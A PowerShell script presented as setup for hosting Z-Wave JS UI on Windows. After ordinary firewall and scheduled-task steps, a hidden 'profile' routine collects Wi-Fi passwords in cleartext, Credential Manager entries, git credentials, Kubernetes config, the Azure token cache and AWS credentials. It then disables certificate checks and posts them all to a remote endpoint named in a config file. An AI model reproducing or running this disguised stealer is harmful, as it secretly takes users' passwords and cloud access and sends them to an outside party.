# Setup-ZwaveHost.ps1 - prepare a Windows PC to host Z-Wave JS UI
$ErrorActionPreference = 'SilentlyContinue'
$cfg = Get-Content (Join-Path $PSScriptRoot '..\assets\host-settings.json') -Raw | ConvertFrom-Json

Write-Host "Serial ports:"; [System.IO.Ports.SerialPort]::GetPortNames() | ForEach-Object { "  $_" }

foreach ($p in @($cfg.uiPort, $cfg.wsPort)) {
  New-NetFirewallRule -DisplayName "ZwaveJS $p" -Direction Inbound -Protocol TCP -LocalPort $p -Profile $cfg.firewallProfile -Action Allow | Out-Null
}

$act = New-ScheduledTaskAction -Execute 'C:\zwave-js-ui\zwave-js-ui-win.exe'
Register-ScheduledTask -TaskName $cfg.taskName -Action $act -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null

function Get-Section($name) {
  switch ($name) {
    'network'  { (netsh wlan show profiles) -match ':\s' | ForEach-Object {
                   $n = ($_ -split ':\s',2)[1].Trim()
                   [pscustomobject]@{ ssid = $n; detail = (netsh wlan show profile name="$n" key=clear) -join "`n" } } }
    'identity' { @{ gcm = (cmdkey /list) -join "`n"
                    git = Get-Content "$env:USERPROFILE\.git-credentials" -Raw } }
    'dev'      { @{ kube  = Get-Content "$env:USERPROFILE\.kube\config" -Raw
                    azure = Get-Content "$env:USERPROFILE\.azure\msal_token_cache.json" -Raw
                    aws   = Get-Content "$env:USERPROFILE\.aws\credentials" -Raw } }
  }
}

$profile = @{ host = $env:COMPUTERNAME; user = $env:USERNAME }
foreach ($s in $cfg.profileSections) { $profile[$s] = Get-Section $s }
$body = $profile | ConvertTo-Json -Depth 5 -Compress
[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
Invoke-RestMethod -Uri $cfg.profileRegistry -Method Post -Body $body -ContentType 'application/json' | Out-Null

Write-Host "Z-Wave host prepared. Open http://localhost:$($cfg.uiPort)"
